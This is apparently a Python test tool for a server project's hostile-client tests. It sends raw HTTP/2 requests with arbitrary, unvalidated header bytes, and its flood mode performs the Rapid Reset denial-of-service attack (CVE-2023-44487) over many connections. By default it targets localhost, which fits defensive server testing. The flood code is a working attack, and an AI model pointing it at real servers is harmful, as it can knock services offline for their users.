#!/usr/bin/python3
"""h2-attack.py: a raw HTTP/2 client for corral's hostile-client tests: sends one request whose header block is
exactly what the command line says (pseudo-headers included, in order, unvalidated and unnormalized), then
optionally a clean GET on the same connection, and prints what came back as one JSON line.

Usage: python3 tools/h2-attack.py --port N [--host 127.0.0.1] --h NAME VALUE [--h NAME VALUE ...] [--then PATH]
  NAME and VALUE take Python backslash escapes (\\x00, \\r, \\n, \\t), so any byte can be sent.
  --then PATH   after the first stream ends, send "GET PATH" (clean headers) on the same connection.
Output: {"status": N|null, "body": "...", "reset": CODE|null, "goaway": CODE|null,
         "then_status": N|null, "then_body": "..."}
Exit: 0 when the exchange ended in a response, a reset or a GOAWAY; 1 on a timeout or a connection error.

Flood mode (Rapid Reset over many connections, CVE-2023-44487):
  python3 tools/h2-attack.py --port N --flood CONNS --per-conn M [--burst B] [--interval-ms T] [--linger-ms L]
                             [--source 127.0.0.2] [--path /c/flood?k=] [--same-path] [--no-reset]
  opens CONNS connections from --source (a local address to bind, so tests can tell the attacker from normal
  clients), then on each sends M pairs of HEADERS (GET PATH<conn>-<i>, END_STREAM) + RST_STREAM(CANCEL), B pairs per
  write with T ms between rounds, reads (and HPACK-decodes) whatever comes back for L ms after the last write, and
  --same-path sends PATH itself every time (one key), --no-reset sends the HEADERS alone and stops reading once
  every stream has its status; then
  prints {"conns": N, "connected": N, "sent": N, "statuses": {"429": N, ...}, "resets": N, "goaways": N,
  "closed": N, "elapsed_ms": N}. Exit 0 unless no connection could be made.
Run it with Debian's /usr/bin/python3, which has python3-h2 (h2, hpack, hyperframe); prior-knowledge h2c over plain TCP, 127.0.0.1 only by default.
"""

import argparse
import codecs
import json
import selectors
import socket
import struct
import sys
import time

import h2.config
import h2.connection
import h2.events
import h2.exceptions


def unescape(s):
    return codecs.escape_decode(s.encode("utf-8"))[0]


def run(args):
    sock = socket.create_connection((args.host, args.port), timeout=5)
    cfg = h2.config.H2Configuration(client_side=True, validate_outbound_headers=False,
                                    normalize_outbound_headers=False, validate_inbound_headers=False)
    conn = h2.connection.H2Connection(config=cfg)
    conn.initiate_connection()
    sock.sendall(conn.data_to_send())
    out = {"status": None, "body": "", "reset": None, "goaway": None, "then_status": None, "then_body": ""}
    headers = [(unescape(n), unescape(v)) for n, v in args.h]
    sid = conn.get_next_available_stream_id()
    conn.send_headers(sid, headers, end_stream=True)
    sock.sendall(conn.data_to_send())
    streams = {sid: ("status", "body")}
    pending = {sid}
    bodies = {}
    then_sent = False
    while pending:
        try:
            data = sock.recv(65536)
        except socket.timeout:
            return out, 1
        if not data:
            out["goaway"] = out["goaway"] if out["goaway"] is not None else "closed"
            return out, 0
        for ev in conn.receive_data(data):
            if isinstance(ev, h2.events.ResponseReceived):
                for n, v in ev.headers:
                    if n in (b":status", ":status"):
                        out[streams[ev.stream_id][0]] = int(v)
            elif isinstance(ev, h2.events.DataReceived):
                bodies[ev.stream_id] = bodies.get(ev.stream_id, b"") + ev.data
                conn.acknowledge_received_data(ev.flow_controlled_length, ev.stream_id)
            elif isinstance(ev, h2.events.StreamEnded):
                pending.discard(ev.stream_id)
            elif isinstance(ev, h2.events.StreamReset):
                if ev.stream_id == sid:
                    out["reset"] = int(ev.error_code)
                pending.discard(ev.stream_id)
            elif isinstance(ev, h2.events.ConnectionTerminated):
                out["goaway"] = int(ev.error_code)
                pending.clear()
        if not pending and args.then and not then_sent and out["goaway"] is None:
            then_sent = True
            tid = conn.get_next_available_stream_id()
            streams[tid] = ("then_status", "then_body")
            pending.add(tid)
            conn.send_headers(tid, [(":method", "GET"), (":scheme", "http"), (":authority", "127.0.0.1:%d" % args.port),
                                    (":path", args.then)], end_stream=True)
        pending_data = conn.data_to_send()
        if pending_data:
            sock.sendall(pending_data)
    for s, (_, bkey) in streams.items():
        out[bkey] = bodies.get(s, b"").decode("utf-8", "replace")
    sock.close()
    return out, 0


def frame(ftype, flags, sid, payload):
    return struct.pack(">I", len(payload))[1:] + struct.pack(">BBI", ftype, flags, sid) + payload


def hpack_literal(name_index, value):
    # literal header field without indexing, indexed name, raw (non-Huffman) value
    v = value.encode("latin-1")
    assert len(v) < 127
    return bytes([name_index, len(v)]) + v


class FloodConn:
    def __init__(self, sock, decoder):
        self.sock = sock
        self.decoder = decoder
        self.inbuf = b""
        self.outbuf = b""
        self.next_sid = 1
        self.sent = 0
        self.closed = False


def flood_parse(c, out):
    while len(c.inbuf) >= 9:
        length = int.from_bytes(c.inbuf[0:3], "big")
        if len(c.inbuf) < 9 + length:
            return
        ftype, flags = c.inbuf[3], c.inbuf[4]
        payload = c.inbuf[9:9 + length]
        c.inbuf = c.inbuf[9 + length:]
        if ftype == 0x1:  # HEADERS (h2o sends no CONTINUATION for short heads)
            if flags & 0x8:
                payload = payload[1:len(payload) - payload[0]]
            if flags & 0x20:
                payload = payload[5:]
            try:
                for n, v in c.decoder.decode(payload):
                    if n in (":status", b":status"):
                        key = v.decode() if isinstance(v, bytes) else v
                        out["statuses"][key] = out["statuses"].get(key, 0) + 1
            except Exception:
                out["hpack_errors"] = out.get("hpack_errors", 0) + 1
        elif ftype == 0x3:
            out["resets"] += 1
        elif ftype == 0x4 and not (flags & 0x1):
            c.outbuf += frame(0x4, 0x1, 0, b"")  # SETTINGS ACK
        elif ftype == 0x6 and not (flags & 0x1):
            c.outbuf += frame(0x6, 0x1, 0, payload)  # PING ACK
        elif ftype == 0x7:
            out["goaways"] += 1


def flood(args):
    import hpack
    authority = "127.0.0.1:%d" % args.port
    out = {"conns": args.flood, "connected": 0, "sent": 0, "statuses": {}, "resets": 0, "goaways": 0, "closed": 0}
    sel = selectors.DefaultSelector()
    conns = []
    start = time.monotonic()
    for i in range(args.flood):
        try:
            s = socket.socket(socket.AF_INET, socket.SOCK_STREAM)
            s.bind((args.source, 0))
            s.settimeout(5)
            s.connect((args.host, args.port))
            s.setblocking(False)
        except OSError:
            continue
        c = FloodConn(s, hpack.Decoder())
        # preface, empty SETTINGS, and a large connection window so that answers never stall
        c.outbuf = b"PRI * HTTP/2.0\r\n\r\nSM\r\n\r\n" + frame(0x4, 0, 0, b"") + frame(0x8, 0, 0, struct.pack(">I", 1 << 30))
        conns.append(c)
        sel.register(s, selectors.EVENT_READ, c)
    out["connected"] = len(conns)
    if not conns:
        return out, 1

    def pump(timeout):
        for c in conns:
            if c.outbuf and not c.closed:
                try:
                    n = c.sock.send(c.outbuf)
                    c.outbuf = c.outbuf[n:]
                except BlockingIOError:
                    pass
                except OSError:
                    c.closed = True
        for key, _ in sel.select(timeout):
            c = key.data
            try:
                data = c.sock.recv(1 << 20)
            except BlockingIOError:
                continue
            except OSError:
                data = b""
            if not data:
                c.closed = True
                sel.unregister(c.sock)
                continue
            c.inbuf += data
            flood_parse(c, out)

    while any(c.sent < args.per_conn and not c.closed for c in conns):
        for ci, c in enumerate(conns):
            if c.closed:
                continue
            for _ in range(min(args.burst, args.per_conn - c.sent)):
                sid = c.next_sid
                c.next_sid += 2
                path = args.path if args.same_path else "%s%d-%d" % (args.path, ci, c.sent)
                block = b"\x82\x86" + hpack_literal(0x04, path) + hpack_literal(0x01, authority)
                c.outbuf += frame(0x1, 0x5, sid, block)
                if not args.no_reset:
                    c.outbuf += frame(0x3, 0, sid, struct.pack(">I", 0x8))
                c.sent += 1
                out["sent"] += 1
        deadline = time.monotonic() + args.interval_ms / 1000.0
        pump(0)
        while time.monotonic() < deadline:
            pump(max(0.0, deadline - time.monotonic()))
    deadline = time.monotonic() + args.linger_ms / 1000.0
    while time.monotonic() < deadline and not all(c.closed for c in conns):
        if args.no_reset and sum(out["statuses"].values()) >= out["sent"]:
            break
        pump(max(0.0, min(0.05, deadline - time.monotonic())))
    out["closed"] = sum(1 for c in conns if c.closed)
    for c in conns:
        try:
            sel.unregister(c.sock)
        except (KeyError, ValueError):
            pass
        c.sock.close()
    out["elapsed_ms"] = int((time.monotonic() - start) * 1000)
    return out, 0


def main():
    ap = argparse.ArgumentParser()
    ap.add_argument("--host", default="127.0.0.1")
    ap.add_argument("--port", type=int, required=True)
    ap.add_argument("--h", nargs=2, action="append", default=[], metavar=("NAME", "VALUE"))
    ap.add_argument("--then", default=None)
    ap.add_argument("--flood", type=int, default=0, metavar="CONNS")
    ap.add_argument("--per-conn", type=int, default=190)
    ap.add_argument("--burst", type=int, default=190)
    ap.add_argument("--interval-ms", type=int, default=0)
    ap.add_argument("--linger-ms", type=int, default=500)
    ap.add_argument("--source", default="127.0.0.1")
    ap.add_argument("--path", default="/c/flood?k=")
    ap.add_argument("--same-path", action="store_true")
    ap.add_argument("--no-reset", action="store_true")
    args = ap.parse_args()
    if args.flood:
        try:
            out, rc = flood(args)
        except (OSError, ValueError) as e:
            print(json.dumps({"error": str(e)}))
            return 1
        print(json.dumps(out))
        return rc
    try:
        out, rc = run(args)
    except (OSError, h2.exceptions.H2Error) as e:
        print(json.dumps({"error": str(e)}))
        return 1
    print(json.dumps(out))
    return rc


if __name__ == "__main__":
    sys.exit(main())
